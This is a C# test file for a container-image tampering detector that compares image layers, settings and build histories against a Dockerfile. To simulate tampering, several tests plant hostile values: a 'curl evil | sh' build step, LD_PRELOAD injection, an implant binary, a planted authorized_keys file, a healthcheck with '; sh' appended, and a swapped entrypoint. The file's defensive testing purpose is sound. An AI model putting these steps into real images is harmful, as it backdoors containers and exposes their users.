using System.Security.Cryptography;
using System.Text;
using Gabion.Model;
using Gabion.Model.Container;
using Gabion.Model.Container.Images;
using Gabion.Readers.Container;
using Gabion.Scan.Images;
using Gabion.Sources.Images;

namespace Gabion.Tests.Images;

/// <summary>Whether an image is what a Dockerfile makes, in the histories that the builders write.</summary>
public sealed class ImageComparisonTests
{
    private const string File = """
        FROM docker.io/library/golang:1.24 AS build
        RUN go build -o /out/app

        FROM scratch
        ARG VERSION=3
        ENV MODE=production NAME="two words"
        LABEL team="core team"
        WORKDIR /srv
        COPY conf/ /srv/conf/
        COPY --from=build /out/app /srv/app
        ADD data.tar.gz https://example.org/x.bin /opt/
        RUN ["/srv/app", "--init", "$VERSION"]
        USER 1000
        EXPOSE 8080/tcp
        HEALTHCHECK --interval=5s CMD ["/srv/app", "--check"]
        ENTRYPOINT ["/srv/app"]
        CMD ["-v"]
        """;

    private const string Settings = """
        {"User":"1000","ExposedPorts":{"8080/tcp":{}},"Env":["PATH=/usr/bin","MODE=production","NAME=two words"],"Entrypoint":["/srv/app"],"Cmd":["-v"],"WorkingDir":"/srv",
         "Labels":{"team":"core team","io.buildah.version":"1"},"Healthcheck":{"Interval":5000000000,"Test":["CMD","/srv/app","--check"]}}
        """;

    private static readonly Dictionary<string, string[]> Histories = new(StringComparer.Ordinal)
    {
        ["classic"] =
        [
            "-/bin/sh -c #(nop)  ARG VERSION=3", "-/bin/sh -c #(nop)  ENV MODE=production NAME=two words", "-/bin/sh -c #(nop)  LABEL team=core team", "/bin/sh -c #(nop) WORKDIR /srv",
            "/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "/bin/sh -c #(nop) COPY file:4567 in /srv/app ", "/bin/sh -c #(nop) ADD multi:89ab in /opt/ ", "|1 VERSION=3 /srv/app --init $VERSION",
            "-/bin/sh -c #(nop)  USER 1000", "-/bin/sh -c #(nop)  EXPOSE 8080/tcp", "-/bin/sh -c #(nop)  HEALTHCHECK &{[\"CMD\" \"/srv/app\" \"--check\"] \"5s\" \"0s\" \"0s\" '\\x00'}",
            "-/bin/sh -c #(nop)  ENTRYPOINT [\"/srv/app\"]", "-/bin/sh -c #(nop)  CMD [\"-v\"]",
        ],
        ["buildkit"] =
        [
            "-ARG VERSION=3", "-ENV MODE=production NAME=two words", "-LABEL team=core team", "WORKDIR /srv", "COPY conf/ /srv/conf/ # buildkit", "COPY /out/app /srv/app # buildkit",
            "ADD data.tar.gz https://example.org/x.bin /opt/ # buildkit", "RUN |1 VERSION=3 /srv/app --init $VERSION # buildkit", "-USER 1000", "-EXPOSE [8080/tcp]",
            "-HEALTHCHECK &{[\"CMD\" \"/srv/app\" \"--check\"] \"5s\" \"0s\" \"0s\" \"0s\" '\\x00'}", "-ENTRYPOINT [\"/srv/app\"]", "-CMD [\"-v\"]",
        ],
        ["buildah"] =
        [
            "-/bin/sh -c #(nop) ARG VERSION=3", "-/bin/sh -c #(nop) ENV MODE=production NAME=\"two words\"", "-/bin/sh -c #(nop) LABEL team=\"core team\"", "/bin/sh -c #(nop) WORKDIR /srv",
            "/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "/bin/sh -c #(nop) COPY file:4567 in /srv/app ", "/bin/sh -c #(nop) ADD multi:89ab in /opt/ ", "|1 VERSION=3 /srv/app --init $VERSION",
            "-/bin/sh -c #(nop) USER 1000", "-/bin/sh -c #(nop) EXPOSE 8080/tcp", "-/bin/sh -c #(nop) HEALTHCHECK --interval=5s CMD [\"/srv/app\", \"--check\"]",
            "-/bin/sh -c #(nop) ENTRYPOINT [\"/srv/app\"]", "-/bin/sh -c #(nop) CMD [\"-v\"]",
        ],
        ["kaniko"] =
        [
            "WORKDIR /srv", "COPY conf/ /srv/conf/", "COPY --from=build /out/app /srv/app", "ADD data.tar.gz https://example.org/x.bin /opt/", "RUN [\"/srv/app\", \"--init\", \"$VERSION\"]",
        ],
    };

    public static TheoryData<string> Builders => [.. Histories.Keys];

    private static readonly Dictionary<string, string> Context = new(StringComparer.Ordinal) { ["conf/a.yaml"] = "a: 1", ["conf/sub/b.yaml"] = "b: 2" };

    // WORKDIR, COPY, COPY --from, ADD, RUN
    private static string[][] Layers() => [["srv/"], ["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2"], ["srv/app=program"], ["opt/unpacked=1", "opt/x.bin=2"], ["var/anything=made by RUN"]];

    [Theory]
    [MemberData(nameof(Builders))]
    public async Task A_clean_image_is_explained(string builder)
    {
        var comparison = await CompareAsync(builder, Layers());
        Assert.Equal([], Told(comparison));
        Assert.False(comparison.IsTampered);
        Assert.Null(comparison.Doubt);
    }

    [Theory]
    [MemberData(nameof(Builders))]
    public async Task Files_that_no_instruction_explains_are_told(string builder)
    {
        var layers = Layers();
        layers[0] = ["srv/", "srv/stray=x"];
        layers[1] = ["srv/conf/a.yaml=a: 666", "srv/conf/new.yaml=x", "usr/bin/implant=x", "etc/.wh.shadow="];
        layers[2] = ["srv/app=program", "srv/.app.so=x"];
        layers[3] = ["opt/unpacked=1", "root/.ssh/authorized_keys=x"];
        var comparison = await CompareAsync(builder, layers);
        Assert.Equal(
            [
                "/srv/stray: WORKDIR makes no files",
                "/srv/conf/a.yaml: its content is not that of the build context",
                "/srv/conf/new.yaml: the build context has no such file",
                "/usr/bin/implant: no instruction puts a file there",
                "/srv/conf/sub/b.yaml: the build context has conf/sub/b.yaml for it, and the image does not have it",
                "/etc/shadow: it is deleted, and no instruction deletes it",
                "/srv/.app.so: no instruction puts a file there",
                "/root/.ssh/authorized_keys: no instruction puts a file there",
            ],
            comparison.Files.Select(text => text[..text.IndexOf(" (layer", StringComparison.Ordinal)]));
    }

    [Theory]
    [MemberData(nameof(Builders))]
    public async Task A_layer_without_a_step_leaves_doubt(string builder)
    {
        var comparison = await CompareAsync(builder, [.. Layers(), ["usr/bin/implant=x"]]);
        Assert.Contains("layers", comparison.Doubt, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Builders))]
    public async Task A_step_that_was_added_or_changed_is_told(string builder)
    {
        var run = builder switch { "buildkit" => "RUN /bin/sh -c curl evil | sh # buildkit", "kaniko" => "RUN curl evil | sh", _ => "/bin/sh -c curl evil | sh" };
        var added = await CompareAsync(builder, [.. Layers(), ["usr/bin/implant=x"]], history: [.. Histories[builder], run]);
        Assert.Equal(["RUN curl evil | sh"], added.Steps.Where(step => step.Likeness == Likeness.Extra).Select(step => step.Step!.Instruction));
        var changed = await CompareAsync(builder, Layers(), history: [.. Histories[builder].Select(line => line.Contains("--init", StringComparison.Ordinal) ? run : line)]);
        Assert.Equal([Likeness.Differs], changed.Steps.Where(step => step.Likeness != Likeness.Same).Select(step => step.Likeness));
    }

    [Theory]
    [InlineData("\"User\":\"1000\"", "\"User\":\"0\"", "USER is 0 in the image, 1000 in the Dockerfile")]
    [InlineData("[\"/srv/app\"],\"Cmd\"", "[\"/srv/.app\"],\"Cmd\"", "ENTRYPOINT is /srv/.app in the image, /srv/app in the Dockerfile (line 16)")]
    [InlineData("[\"-v\"]", "[\"-v\",\"-x\"]", "CMD is -v -x in the image, -v in the Dockerfile (line 17)")]
    [InlineData("MODE=production", "MODE=debug", "ENV MODE is another in the image")]
    [InlineData("\"PATH=/usr/bin\"", "\"PATH=/usr/bin\",\"LD_PRELOAD=/x.so\"", "ENV LD_PRELOAD is set in the image, and no instruction sets it")]
    [InlineData("core team", "others", "LABEL team is 'others' in the image, 'core team' in the Dockerfile")]
    [InlineData("8080/tcp", "22/tcp", "EXPOSE 8080/tcp is missing in the image; EXPOSE 22/tcp is set in the image, and no instruction sets it")]
    [InlineData("\"--check\"]", "\"--check\",\"; sh\"]", "HEALTHCHECK is /srv/app --check ; sh in the image, another in the Dockerfile (line 15)")]
    [InlineData("\"WorkingDir\":\"/srv\"", "\"WorkingDir\":\"/tmp\"", "WORKDIR is /tmp in the image, /srv in the Dockerfile")]
    [InlineData("{\"User\"", "{\"OnBuild\":[\"RUN evil\"],\"User\"", "ONBUILD RUN evil is set in the image, and no instruction sets it")]
    [InlineData("{\"User\"", "{\"Volumes\":{\"/etc\":{}},\"User\"", "VOLUME /etc is set in the image, and no instruction sets it")]
    public async Task Changed_settings_are_told_whatever_the_history_says(string before, string after, string expected)
    {
        foreach (var builder in Histories.Keys)
        {
            var comparison = await CompareAsync(builder, Layers(), Settings.Replace(before, after, StringComparison.Ordinal));
            Assert.Equal(expected, string.Join("; ", comparison.Settings));
        }
    }

    /// <summary>Without <c>--layers</c> buildah writes the files of a whole stage as the layer of its last instruction.</summary>
    [Fact]
    public async Task A_stage_in_one_layer_is_that_of_all_its_instructions()
    {
        const string Two = "FROM scratch\nCOPY conf/ /srv/conf/\nADD x.tar /opt/\nUSER 1000\nCMD [\"/srv/run\"]\n";
        string[] history = ["-/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "-/bin/sh -c #(nop) ADD file:4567 in /opt/ ", "-/bin/sh -c #(nop) USER 1000", "/bin/sh -c #(nop) CMD [\"/srv/run\"]"];
        const string Set = """{"User":"1000","Cmd":["/srv/run"]}""";
        Assert.Equal([], Told(await CompareAsync("buildah", [["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2", "opt/d=1"]], Set, history, Two)));
        Assert.Equal(
            ["/usr/bin/implant: no instruction puts a file there (layer 1, CMD [\"/srv/run\"])"],
            Told(await CompareAsync("buildah", [["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2", "usr/bin/implant=x"]], Set, history, Two)));
    }

    [Theory]
    [InlineData("etc/motd=hello\n", "")]
    [InlineData("etc/motd=hallo\n", "/etc/motd: its content is not that of the Dockerfile (layer 1, COPY <<EOF /etc/motd)")]
    [InlineData("etc/other=hello\n", "/etc/other: no instruction puts a file there (layer 1, COPY <<EOF /etc/motd)")]
    public async Task The_text_of_a_heredoc_is_compared(string file, string expected)
    {
        var comparison = await CompareAsync("buildkit", [[file], ["var/x=1"]], "{}", ["COPY <<EOF /etc/motd # buildkit", "RUN /bin/sh -c echo one\necho two\n # buildkit"],
            "FROM scratch\nCOPY <<EOF /etc/motd\nhello\nEOF\nRUN <<EOT\necho one\necho two\nEOT\n");
        Assert.Equal(expected, string.Join("; ", Told(comparison)));
    }

    [Theory]
    [InlineData("COPY conf/ /srv/", "srv/a.yaml=1 srv/sub/b.yaml=2", "")]
    [InlineData("COPY conf/ /srv/", "srv/a.yaml=1", "/srv/sub/b.yaml: the build context has conf/sub/b.yaml for it, and the image does not have it")]
    [InlineData("COPY conf/ /srv/", "srv/a.yaml=1 srv/sub/.wh.b.yaml=", "/srv/sub/b.yaml: the build context has conf/sub/b.yaml for it, and the image does not have it")]
    [InlineData("COPY conf/a.yaml /srv/", "srv/a.yaml=1", "")]
    [InlineData("COPY conf/a.yaml /srv/other", "srv/other=1", "")]
    [InlineData("COPY conf/a.yaml /srv/", "srv/", "/srv/a.yaml: the build context has conf/a.yaml for it, and the image does not have it")]
    [InlineData("COPY conf/*.yaml conf/*/b.yaml /srv/", "srv/a.yaml=1 srv/b.yaml=2", "")]
    [InlineData("COPY con?/[a-c].yaml /srv/", "srv/", "/srv/a.yaml: the build context has conf/a.yaml for it, and the image does not have it")]
    [InlineData("COPY --exclude=*/b.yaml conf/ /srv/", "srv/a.yaml=1", "")]
    [InlineData("COPY --exclude=*.yaml conf/ /srv/", "srv/", "")]
    [InlineData("COPY --parents conf/sub /srv/", "srv/conf/sub/b.yaml=2", "")]
    [InlineData("COPY --parents conf/sub /srv/", "srv/", "/srv/conf/sub/b.yaml: the build context has conf/sub/b.yaml for it, and the image does not have it")]
    [InlineData("COPY --parents ./conf/./sub/b.yaml /srv/", "srv/sub/b.yaml=2", "")]
    [InlineData("COPY . /srv/", "srv/conf/a.yaml=1 srv/conf/sub/b.yaml=2", "")]
    [InlineData("COPY nothing/ /srv/", "srv/", "")]
    [InlineData("COPY --from=alpine conf/ /srv/", "srv/", "")]
    [InlineData("ADD https://example.org/x conf.tar /srv/", "srv/", "")]
    public async Task What_a_copy_should_have_made_is_missed(string instruction, string layer, string expected)
    {
        var context = new Dictionary<string, string>(StringComparer.Ordinal) { ["conf/a.yaml"] = "1", ["conf/sub/b.yaml"] = "2", [".git/config"] = "x" };
        var comparison = await CompareAsync("buildkit", [layer.Split(' ')], "{}", [$"{instruction} # buildkit"], $"FROM scratch\n{instruction}\n", context: context);
        Assert.Equal(expected, string.Join("; ", comparison.Files.Select(text => text[..text.IndexOf(" (layer", StringComparison.Ordinal)])));
    }

    [Fact]
    public async Task What_lower_layers_have_or_later_ones_delete_is_not_missed()
    {
        const string dockerfile = "FROM scratch\nCOPY conf/a.yaml /srv/\nCOPY conf/ /srv/\nRUN rm /srv/a.yaml\n";
        string[] history = ["COPY conf/a.yaml /srv/ # buildkit", "COPY conf/ /srv/ # buildkit", "RUN /bin/sh -c rm /srv/a.yaml # buildkit"];
        Assert.Equal([], Told(await CompareAsync("buildkit", [["srv/a.yaml=a: 1"], ["srv/sub/b.yaml=b: 2"], ["srv/.wh.a.yaml="]], "{}", history, dockerfile)));
        Assert.Equal(
            ["/srv/sub/b.yaml: the build context has conf/sub/b.yaml for it, and the image does not have it (layer 2, COPY conf/ /srv/)"],
            Told(await CompareAsync("buildkit", [["srv/a.yaml=a: 1"], ["srv/"], ["srv/.wh.a.yaml="]], "{}", history, dockerfile)));
    }

    [Fact]
    public async Task Settings_before_the_first_layer_are_the_image_s_own_on_a_known_base()
    {
        const string dockerfile = "FROM debian:12\nLABEL a=b\nENV C=d\nWORKDIR /app\nUSER 1000\nCMD [\"/app/run\"]\n";
        string[] history = ["ADD rootfs.tar / # buildkit", "-CMD [\"bash\"]", "-LABEL a=b", "-ENV C=d", "WORKDIR /app", "-USER 1000", "-CMD [\"/app/run\"]"];
        const string settings = """{"User":"1000","Env":["C=d"],"Cmd":["/app/run"],"WorkingDir":"/app","Labels":{"a":"b"}}""";
        Assert.Equal([], Told(await CompareAsync("buildkit", [["etc/x=1"], ["app/"]], settings, history, dockerfile, baseLayers: 1)));
        var told = Told(await CompareAsync("buildkit", [["etc/x=1"], ["app/"]], settings, history, dockerfile.Replace("ENV C=d", "ENV C=e", StringComparison.Ordinal), baseLayers: 1));
        Assert.Contains(told, text => text.StartsWith("Differs ENV C=e", StringComparison.Ordinal));
    }

    private const string OnDebian = "FROM debian:12\nCOPY conf/ /srv/conf/\n";

    private static readonly string[][] OnDebianLayers = [["etc/x=1"], ["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2"]];

    private static readonly string[] OnDebianHistory =
    [
        "ADD rootfs.tar / # buildkit", "-ENV LANG=C.UTF-8 NAME=\"two words\"", "-LABEL maker=debian", "-EXPOSE map[80/tcp:{} 443/tcp:{}]", "-VOLUME [/data]", "WORKDIR /srv", "-USER 1000",
        "-HEALTHCHECK &{[\"CMD-SHELL\" \"curl -f http://localhost/\"] \"5s\" \"0s\" \"0s\" \"0s\" '\\x00'}", "-STOPSIGNAL SIGQUIT", "-ENTRYPOINT [\"/entry.sh\" \"x y\"]", "-CMD [\"bash\"]", "COPY conf/ /srv/conf/ # buildkit",
    ];

    private const string OnDebianSettings = """
        {"User":"1000","Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","LANG=C.UTF-8","NAME=two words"],"ExposedPorts":{"80/tcp":{},"443/tcp":{}},"Volumes":{"/data":{}},
         "WorkingDir":"/srv","Entrypoint":["/entry.sh","x y"],"Cmd":["bash"],"StopSignal":"SIGQUIT","Labels":{"maker":"debian"},"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost/"]} }
        """;

    // The history has WORKDIR make a layer.
    private static string[][] DebianLayers => [OnDebianLayers[0], ["srv/"], OnDebianLayers[1]];

    [Fact]
    public async Task Settings_that_a_step_of_the_base_makes_are_explained()
    {
        var comparison = await CompareAsync("buildkit", DebianLayers, OnDebianSettings, OnDebianHistory, OnDebian, baseLayers: 2);
        Assert.Equal([], Told(comparison));
        Assert.Empty(comparison.Unsettled);
    }

    [Theory]
    [InlineData("\"/entry.sh\"", "\"/evil.sh\"", "ENTRYPOINT /evil.sh x y is in the image, and no instruction and no step of the history sets it")]
    [InlineData("\"bash\"", "\"evil\"", "CMD evil is in the image")]
    [InlineData("\"LANG=C.UTF-8\"", "\"LANG=C.UTF-8\",\"LD_PRELOAD=/x.so\"", "ENV LD_PRELOAD=/x.so is in the image")]
    [InlineData("PATH=/usr/local/sbin:", "PATH=/tmp:/usr/local/sbin:", "ENV PATH=/tmp:")]
    [InlineData("LANG=C.UTF-8", "LANG=evil", "ENV LANG=evil is in the image")]
    [InlineData("\"443/tcp\"", "\"4444/tcp\"", "EXPOSE 4444/tcp is in the image")]
    [InlineData("\"/data\"", "\"/data2\"", "VOLUME /data2 is in the image")]
    [InlineData("\"WorkingDir\":\"/srv\"", "\"WorkingDir\":\"/tmp\"", "WORKDIR /tmp is in the image")]
    [InlineData("SIGQUIT", "SIGKILL", "STOPSIGNAL SIGKILL is in the image")]
    [InlineData("curl -f", "evil -f", "HEALTHCHECK CMD-SHELL evil -f http://localhost/ is in the image")]
    [InlineData("\"User\":\"1000\"", "\"User\":\"0\"", "USER 0 is in the image")]
    [InlineData("\"User\":\"1000\"", "\"User\":\"\"", "USER is not set in the image, 1000 in its base")]
    public async Task A_setting_that_nobody_set_is_told(string before, string after, string expected)
    {
        var comparison = await CompareAsync("buildkit", DebianLayers, OnDebianSettings.Replace(before, after, StringComparison.Ordinal), OnDebianHistory, OnDebian, baseLayers: 2);
        Assert.StartsWith(expected, Assert.Single(Told(comparison)), StringComparison.Ordinal);
    }

    /// <summary>Builders take labels from their command line, and bases that no Dockerfile made have settings without a step.</summary>
    [Fact]
    public async Task What_a_history_need_not_tell_is_in_doubt()
    {
        var labelled = await CompareAsync("buildkit", DebianLayers, OnDebianSettings.Replace("\"maker\"", "\"by\":\"x\",\"maker\"", StringComparison.Ordinal), OnDebianHistory, OnDebian, baseLayers: 2);
        Assert.Equal([], Told(labelled));
        Assert.StartsWith("LABEL by=x", Assert.Single(labelled.Unsettled), StringComparison.Ordinal);
        var bazel = await CompareAsync(
            "buildkit", DebianLayers, """{"Entrypoint":["/evil"]}""", ["bazel build //base", "WORKDIR /srv", "COPY conf/ /srv/conf/ # buildkit"], OnDebian, baseLayers: 2);
        Assert.Equal([], Told(bazel));
        Assert.StartsWith("ENTRYPOINT /evil", Assert.Single(bazel.Unsettled), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Labels_that_builders_set_are_no_doubt()
    {
        var comparison = await CompareAsync("buildkit", DebianLayers, OnDebianSettings.Replace("\"maker\"", "\"com.docker.compose.project\":\"x\",\"org.opencontainers.image.revision\":\"y\",\"maker\"", StringComparison.Ordinal), OnDebianHistory, OnDebian, baseLayers: 2);
        Assert.Equal([], Told(comparison));
        Assert.Empty(comparison.Unsettled);
        Assert.Equal(["LABEL com.docker.compose.project=x: docker compose set it by themselves", "LABEL org.opencontainers.image.revision=y: pipelines, under OCI's own names set it by themselves"], comparison.OfBuilder);
    }

    private const string OfArgument = "FROM scratch\nARG VER=1.2\nLABEL version=\"$VER\" by=me\nCOPY conf/ /srv/conf/\nRUN [\"/x\"]\n";

    private static readonly string[][] OfArgumentLayers = [["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2"], ["x=1"]];

    [Theory]
    [InlineData("9", "RUN |1 VER=9 /x # buildkit", "-LABEL version=9 by=me", "", "")] // the history tells what was given
    [InlineData("9", "RUN /x # buildkit", "-LABEL version=9 by=me", "", "LABEL version is '9' in the image, '1.2' in the Dockerfile; it hangs on an argument")]
    [InlineData("1.2", "RUN /x # buildkit", "-LABEL version=1.2 by=me", "", "")]
    [InlineData("9", "RUN |1 VER=8 /x # buildkit", "-LABEL version=9 by=me", "Differs LABEL", "")]
    [InlineData("9", "RUN |1 VER=9 /x # buildkit", "-LABEL version=\"$VER\" by=me", "", "")] // as buildah writes it
    public async Task What_the_build_was_given_is_minded(string value, string run, string label, string told, string unsettled)
    {
        var settings = $$$"""{"Labels":{"version":"{{{value}}}","by":"me"}}""";
        var comparison = await CompareAsync("buildkit", OfArgumentLayers, settings, [label, "COPY conf/ /srv/conf/ # buildkit", run], OfArgument);
        Assert.StartsWith(told, string.Join('\n', Told(comparison)), StringComparison.Ordinal);
        Assert.Equal(told.Length > 0, comparison.IsTampered);
        Assert.StartsWith(unsettled, string.Join('\n', comparison.Unsettled), StringComparison.Ordinal);
        Assert.Equal(unsettled.Length > 0, comparison.Unsettled.Length > 0);
    }

    [Theory]
    [InlineData("|2 A=b C=d e /bin/sh -c x", "A=b,C=d e")]
    [InlineData("RUN |1 A= /bin/bash -c x # buildkit", "A=")]
    [InlineData("|2 A=b Z=d /bin/sh -c x", "")] // Z is none of the Dockerfile's
    [InlineData("/bin/sh -c a |1 A=b", "")]
    [InlineData("/bin/sh -c echo A=b", "")]
    public void Arguments_of_a_build_are_read_from_its_steps(string step, string expected) =>
        Assert.Equal(expected, string.Join(',', HistoryArguments.Read(step, ["A", "C"]).Select(pair => $"{pair.Key}={pair.Value}")));

    [Theory]
    [InlineData("COPY a /", "0755", "", null)]
    [InlineData("COPY a /", "4755", "", null)] // what the context has is asked with the content
    [InlineData("COPY --chmod=640 a /", "0640", "", null)]
    [InlineData("COPY --chmod=640 a /", "0666", "", "its mode is 0666, and --chmod says 0640")]
    [InlineData("COPY --chmod=u+x a /", "0666", "", null)]
    [InlineData("COPY --chown=1000:100 a /", "0644", "1000:100", null)]
    [InlineData("COPY --chown=1000 a /", "0644", "1000:0", "it belongs to 1000:0, and --chown says 1000:1000")]
    [InlineData("COPY --chown=node:node a /", "0644", "0:0", null)]
    [InlineData("COPY --chown=1000:node a /", "0644", "0:0", "it belongs to 0:0, and --chown says 1000")]
    public void What_a_copied_file_is_beside_its_content(string instruction, string mode, string owner, string? expected)
    {
        var copy = new DockerfileReader().Read(new SourceFile("Dockerfile"), Encoding.UTF8.GetBytes($"FROM scratch\n{instruction}\n")).Facts.OfType<Dockerfile>().Single().Instructions.OfType<CopyInstruction>().Single();
        var ids = owner.Length == 0 ? [0, 0] : owner.Split(':').Select(long.Parse).ToArray();
        var attributes = new CopiedAttributes(copy);
        var entry = new LayerEntry("a", LayerEntryKind.File) { Mode = Convert.ToInt32(mode, 8), UserId = ids[0], GroupId = ids[1] };
        Assert.Equal(expected, attributes.Problem(entry));
        Assert.StartsWith("it is a device", attributes.Problem(entry with { Kind = LayerEntryKind.CharacterDevice }), StringComparison.Ordinal);
        Assert.StartsWith("it is a hard link to x of a lower layer", attributes.Problem(entry with { Kind = LayerEntryKind.HardLink, LinkTarget = "x" }), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("COPY a /", 0x9ED, 0x1ED, "its mode is 4755, that of the build context 0755")]
    [InlineData("COPY a /", 0x9ED, 0x9ED, null)]
    [InlineData("COPY a /", 0x1B4, 0x1A4, null)] // another umask
    [InlineData("COPY a /", 0x1B6, 0x1A4, "its mode is 0666, that of the build context 0644")]
    [InlineData("COPY --chmod=u+s a /", 0x9ED, 0x1ED, null)]
    public void A_copied_file_has_no_more_rights_than_the_contexts(string instruction, int mode, int ofContext, string? expected)
    {
        var copy = new DockerfileReader().Read(new SourceFile("Dockerfile"), Encoding.UTF8.GetBytes($"FROM scratch\n{instruction}\n")).Facts.OfType<Dockerfile>().Single().Instructions.OfType<CopyInstruction>().Single();
        var context = new BuildContext(_ => null, []) { Mode = path => path == "a" ? ofContext : null };
        Assert.Equal(expected, new CopiedAttributes(copy).OfContext(new("a", LayerEntryKind.File) { Mode = mode }, context, "a"));
    }

    /// <summary>capability.h: version 2 is 0x02000000 and 20 bytes, version 3 is 0x03000000 and 24; bit 0 makes the capabilities effective.</summary>
    [Theory]
    [InlineData("01000002 00040000 00000000 00000000 00000000", "01000002 00040000 00000000 00000000 00000000", null)]
    [InlineData("01000003 00040000 00000000 00000000 00000000 e8030000", "01000002 00040000 00000000 00000000 00000000", null)]
    [InlineData("01000002 00040000 00000000 00000000 00000000", null, "it has file capabilities, and the build context's file has none")]
    [InlineData("01000002 00042000 00000000 00000000 00000000", "01000002 00040000 00000000 00000000 00000000", "it has other file capabilities than the build context's file")]
    [InlineData("01000002 00040000 00000000 00000000 00000000", "00000002 00040000 00000000 00000000 00000000", "it has other file capabilities than the build context's file")]
    [InlineData(null, "01000002 00040000 00000000 00000000 00000000", null)] // left out by a builder that may not set it
    public void File_capabilities_are_those_of_the_context(string? here, string? there, string? expected)
    {
        var copy = new DockerfileReader().Read(new SourceFile("Dockerfile"), "FROM scratch\nCOPY a /\n"u8.ToArray()).Facts.OfType<Dockerfile>().Single().Instructions.OfType<CopyInstruction>().Single();
        var entry = new LayerEntry("a", LayerEntryKind.File) { Capability = Bytes(here) };
        Assert.Equal(expected, new CopiedAttributes(copy).OfContext(entry, new BuildContext(_ => null, []) { Capability = _ => Bytes(there) }, "a"));
        Assert.Null(new CopiedAttributes(copy).OfContext(entry, new BuildContext(_ => null, []), "a")); // they are not known of that context

        static string? Bytes(string? hex) => hex is null ? null : Encoding.Latin1.GetString(Convert.FromHexString(hex.Replace(" ", "", StringComparison.Ordinal)));
    }

    /// <summary>BuildKit, buildah and the classic builder follow a link that is a source, and none in a folder that is copied.</summary>
    [Theory]
    [InlineData("current", "v1", "current/a current/sub/b")]
    [InlineData("./current/sub", "v1", "current/sub/b")]
    [InlineData("cur*", "v1", "current/a current/sub/b")]
    [InlineData("current", "/v1/../v1/sub", "current/b")]
    [InlineData("current/a", "v1/a", "")]
    [InlineData("current", "v1/a", "current")]
    [InlineData("current", "current", "")]
    [InlineData("current", "../../elsewhere", "")]
    [InlineData("v1", "v1", "")]
    public void A_link_that_is_a_source_is_followed(string source, string target, string expected)
    {
        var files = new[] { "v1/a", "v1/sub/b" };
        var context = new BuildContext(path => Digest.OfSha256(SHA256.HashData(Encoding.UTF8.GetBytes(path))), files) { LinkTarget = path => path == "current" ? target : null, Links = ["current"] };
        var followed = FollowedSources.In(context, [source]);
        Assert.Equal(expected.Split(' ', StringSplitOptions.RemoveEmptyEntries), followed.Files.Except(files));
        Assert.All(followed.Files.Except(files), file => Assert.Contains(files, real => followed.Content(file) == context.Content(real)));
    }

    [Fact]
    public void Folders_that_copying_empties_or_opens_are_told()
    {
        LayerContent below = new([new("etc", LayerEntryKind.Folder) { Mode = 0x1ED }, new("etc/shadow", LayerEntryKind.File), new("tmp", LayerEntryKind.Folder) { Mode = 0x3FF }], [], []);
        LayerContent layer = new([new("etc", LayerEntryKind.Folder) { Mode = 0x1FF }, new("tmp", LayerEntryKind.Folder) { Mode = 0x3FF }], [], ["etc", "var"]);
        Assert.Equal(
            ["/etc: all that lower layers have in it is deleted, and no instruction deletes it", "/etc: everybody may write in it (0777), which no instruction says; below it is 0755"],
            LayerExplanation.Folders([below, layer]));
    }

    [Fact]
    public async Task Of_a_base_that_was_learnt_the_settings_are_known()
    {
        string[] history = ["bazel build //base", "WORKDIR /srv", "COPY conf/ /srv/conf/ # buildkit"];
        var table = KnownBases.Read(new KnownBases([new("debian:12", null, ["sha256:1"]) { Settings = Learnt("""{"Entrypoint":["/entry"],"User":"65532"}""") }]).Write());
        var settings = Assert.Single(table.Bases).Settings!;
        Assert.Equal(["ENTRYPOINT=/entry", "USER=65532"], settings.Select(pair => $"{pair.Key}={pair.Value}"));
        var clean = await CompareAsync("buildkit", DebianLayers, """{"Entrypoint":["/entry"],"User":"65532"}""", history, OnDebian, baseLayers: 2, ofBase: settings);
        Assert.Equal([], Told(clean));
        Assert.Empty(clean.Unsettled);
        var swapped = await CompareAsync("buildkit", DebianLayers, """{"Entrypoint":["/evil"]}""", history, OnDebian, baseLayers: 2, ofBase: settings);
        Assert.Equal(
            ["ENTRYPOINT /evil is in the image, and neither an instruction nor the base nor a step of the history sets it", "USER is not set in the image, 65532 in its base, and no instruction takes that back"],
            Told(swapped));
    }

    [Theory]
    [InlineData("debian:12", null)]
    [InlineData("docker.io/library/debian:12", null)]
    [InlineData("debian:13", "The image does not stand on debian:13 as learnt: its first layers are others (those of debian:12)")]
    [InlineData("debian:11", null)]
    public void An_image_on_another_base_than_the_one_that_was_learnt_is_told(string from, string? expected)
    {
        static string Id(char digit) => $"sha256:{new string(digit, 64)}";
        var bases = new KnownBases([new("debian:12", null, [Id('1')]), new("debian:13", null, [Id('2')])]);
        Assert.True(ImageRef.TryParse(from, out var named));
        Assert.Equal(expected, bases.Mismatch(named, Config($$"""{"rootfs":{"diff_ids":["{{Id('1')}}","{{Id('3')}}"]} }""")));
    }

    private static ImageConfig Config(string json) => ImageConfig.Read(Encoding.UTF8.GetBytes(json), out _)!;

    private static System.Collections.Immutable.ImmutableSortedDictionary<string, string> Learnt(string settings) =>
        KnownBase.Of("debian:12", null, Config($$"""{"config":{{settings}}}"""))!.Settings!;

    [Theory]
    [InlineData("app/secret.env", true)]
    [InlineData("app/keep.env", false)]
    [InlineData("node_modules/x/y.js", true)]
    [InlineData("app/node_modules/x.js", false)]
    [InlineData("app/a.log", true)]
    [InlineData("a.txt", false)]
    public void Dockerignore_counts_from_the_root_and_the_last_rule_decides(string path, bool isOut) =>
        Assert.Equal(isOut, new ContextIgnore("# comment\n\n/node_modules\n**/*.log\napp/*.env\n!app/keep.env\n").Excludes(path));

    private static IEnumerable<string> Told(ImageComparison comparison) =>
        comparison.Steps.Where(step => step.Likeness != Likeness.Same).Select(step => $"{step.Likeness} {step.Instruction ?? step.Step!.Instruction}: {step.Reason}").Concat(comparison.Settings).Concat(comparison.Files);

